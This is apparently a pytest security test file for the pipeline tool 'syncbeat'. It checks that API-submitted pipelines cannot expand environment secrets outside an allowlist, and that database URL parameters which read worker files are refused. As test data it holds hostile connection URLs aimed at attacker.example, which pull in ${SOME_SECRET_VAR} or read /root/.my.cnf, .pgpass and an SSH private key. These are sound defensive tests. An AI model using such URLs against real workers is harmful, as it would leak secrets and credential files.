"""A token holder cannot make a worker read its environment: a pipeline saved through
the API expands only the ``${VAR}`` the operator allowed. Refused when it is saved (422
naming the variable and the rule) and again when a worker runs it, so a row written into
the store some other way gets no further; the operator's own pipelines are unchanged."""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa

from syncbeat import PipelineSpec, Syncbeat
from syncbeat.store import pipelines
from tests.api.conftest import assert_error
from tests.security.fake_servers import fake_postgres
from tests.support.cli import fails, pipeline_add_args, run_args, run_cli
from tests.support.jobs import job_of

SECRET = "worker-only-secret-7c2e"
ENV = {"SOME_SECRET_VAR": SECRET, "SYNCBEAT_SECRET_DB_USER": "allowed-user-91ab"}


def _body(name: str, source: str) -> dict[str, object]:
    return {
        "name": name,
        "source_url": source,
        "source_table": "items",
        "dest_url": "postgresql://app@127.0.0.1:1/dw",
        "dest_table": "items",
    }


def _hostile(port: int) -> str:
    return f"postgresql://${{SOME_SECRET_VAR}}@127.0.0.1:{port}/${{HOME}}"


def _run_worker(store: str, env: dict[str, str] | None = None) -> str:
    result = run_cli("worker", "--once", store=store, env={**ENV, **(env or {})})
    text = result.stdout + result.stderr
    assert result.returncode == 0, text
    assert "Traceback" not in text, text
    return text


def test_the_api_refuses_a_variable_outside_the_allowlist(
    client: httpx.Client, sb: Syncbeat, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in ENV.items():
        monkeypatch.setenv(name, value)
    with fake_postgres() as server:
        response = client.post("/pipelines", json=_body("steal", _hostile(server.port)))
        message = assert_error(response, 422, "not_allowed_error")
        assert "${SOME_SECRET_VAR}" in message and "SYNCBEAT_SECRET_" in message
        assert SECRET not in response.text
        # PUT is held to the same rule (here over a pipeline the API may have).
        allowed = _body("p", f"postgresql://${{SYNCBEAT_SECRET_DB_USER}}@127.0.0.1:{server.port}/x")
        assert client.post("/pipelines", json=allowed).status_code == 201
        hostile = _body("p", _hostile(server.port))
        del hostile["name"]  # a PUT names the pipeline in its path
        put = client.put("/pipelines/p", json=hostile)
        assert "${SOME_SECRET_VAR}" in assert_error(put, 422, "not_allowed_error")
    assert server.connections == 0
    assert [p.name for p in sb.pipelines()] == ["p"]
    assert sb.pipeline("p").source_url == allowed["source_url"]


def test_an_explicitly_listed_variable_is_allowed(
    client: httpx.Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SYNCBEAT_SECRET_VARS", "SOME_SECRET_VAR, OTHER")
    response = client.post("/pipelines", json=_body("ok", "postgresql://${SOME_SECRET_VAR}@db/x"))
    assert response.status_code == 201, response.text
    assert response.json()["origin"] == "api"


def test_a_worker_never_expands_a_refused_variable(store_url: str) -> None:
    """The same row written into the store directly, as the API's: the worker fails the
    job, saying why, and the server never hears from it."""
    with fake_postgres() as server:
        sb = Syncbeat(store_url)
        try:
            spec = PipelineSpec(**{**_body("steal", _hostile(server.port)), "name": "steal"})
            sb.save_pipeline(spec, origin="api")
            job = sb.enqueue("steal")
        finally:
            sb.close()
        _run_worker(store_url)
    assert server.connections == 0 and SECRET.encode() not in server.received
    ended = job_of(store_url, job.id)
    assert ended["status"] == "failed", ended
    assert "${SOME_SECRET_VAR}" in ended["last_error"] and SECRET not in ended["last_error"]


def test_allowed_variables_and_the_operators_pipelines_are_expanded(store_url: str) -> None:
    """The fake server sees the user names: an allowed variable's value from an API
    pipeline, and any variable from a pipeline the operator saved with the CLI."""
    with fake_postgres() as server:
        sb = Syncbeat(store_url)
        try:
            url = f"postgresql://${{SYNCBEAT_SECRET_DB_USER}}@127.0.0.1:{server.port}/x"
            sb.save_pipeline(PipelineSpec(**{**_body("api", url), "name": "api"}), origin="api")
            sb.enqueue("api")
        finally:
            sb.close()
        _run_worker(store_url)
        dw = "postgresql://app@127.0.0.1:1/dw"
        run_cli(
            *pipeline_add_args("mine", _hostile(server.port), dw, table="items"),
            store=store_url,
            check=True,
        )
        run_cli(*run_args("mine"), store=store_url, check=True)
        _run_worker(store_url)
    users = b"".join(server.startups)
    assert b"allowed-user-91ab" in users
    assert SECRET.encode() in users  # the operator's own pipeline: any variable


def test_the_api_replacing_an_operators_pipeline_makes_it_the_apis(
    client: httpx.Client, sb: Syncbeat, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    mine = PipelineSpec(**{**_body("mine", "postgresql://${SOME_SECRET_VAR}@db/x"), "name": "mine"})
    sb.save_pipeline(mine)
    assert client.get("/pipelines/mine").json()["origin"] == "operator"
    changed = _body("mine", "postgresql://${SYNCBEAT_SECRET_DB_USER}@elsewhere/x")
    del changed["name"]
    assert client.put("/pipelines/mine", json=changed).status_code == 200
    assert client.get("/pipelines/mine").json()["origin"] == "api"
    # And a job of it now runs under the allowlist: the worker refuses ${SOME_SECRET_VAR}
    # written back into the row behind the API's back.
    with sb.store.begin() as conn:
        row = conn.execute(sa.select(pipelines.c.spec).where(pipelines.c.name == "mine")).one()
        conn.execute(
            pipelines.update()
            .where(pipelines.c.name == "mine")
            .values(spec={**row.spec, "source_url": mine.source_url})
        )
    job = sb.enqueue("mine")
    monkeypatch.delenv("SYNCBEAT_SECRET_VARS", raising=False)
    store_url = str(sb.store.engine.url.render_as_string(hide_password=False))
    _run_worker(store_url)
    assert "${SOME_SECRET_VAR}" in (job_of(store_url, job.id)["last_error"] or "")


def test_the_cli_says_what_a_refused_job_needs(store_url: str) -> None:
    sb = Syncbeat(store_url)
    try:
        spec = PipelineSpec(
            **{**_body("steal", "postgresql://${SOME_SECRET_VAR}@db/x"), "name": "s"}
        )
        sb.save_pipeline(spec, origin="api")
    finally:
        sb.close()
    result = run_cli(*run_args("s", wait=True), store=store_url, env=ENV)
    fails(result, 1, "${SOME_SECRET_VAR}", "SYNCBEAT_SECRET_VARS")
    assert SECRET not in result.stdout + result.stderr


@pytest.mark.parametrize(
    "url",
    [
        # PyMySQL reads the option file, whose host and password win over the URL's.
        "mysql://x@attacker.example/db?read_default_file=/root/.my.cnf",
        "postgresql://x@attacker.example/db?passfile=/home/app/.pgpass",
        "postgresql://x@attacker.example/db?sslkey=/home/app/.ssh/id_rsa",
        "mysql://x@attacker.example/db?local_infile=1",
    ],
)
def test_url_parameters_that_read_the_workers_files_are_refused(
    client: httpx.Client, sb: Syncbeat, url: str
) -> None:
    parameter = url.rpartition("?")[2].partition("=")[0]
    message = assert_error(client.post("/pipelines", json=_body("p", url)), 422)
    assert parameter in message
    assert sb.pipelines() == []


@pytest.mark.parametrize("name", ["SYNCBEAT_API_TOKEN", "SYNCBEAT_STORE", "SYNCBEAT_SECRET_VARS"])
def test_syncbeats_own_settings_are_never_allowed(
    client: httpx.Client, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """Not even with a prefix that matches them, or listed by name."""
    monkeypatch.setenv("SYNCBEAT_SECRET_PREFIX", "SYNCBEAT_")
    monkeypatch.setenv("SYNCBEAT_SECRET_VARS", name)
    response = client.post("/pipelines", json=_body("p", f"postgresql://${{{name}}}@db/x"))
    assert f"${{{name}}}" in assert_error(response, 422, "not_allowed_error")
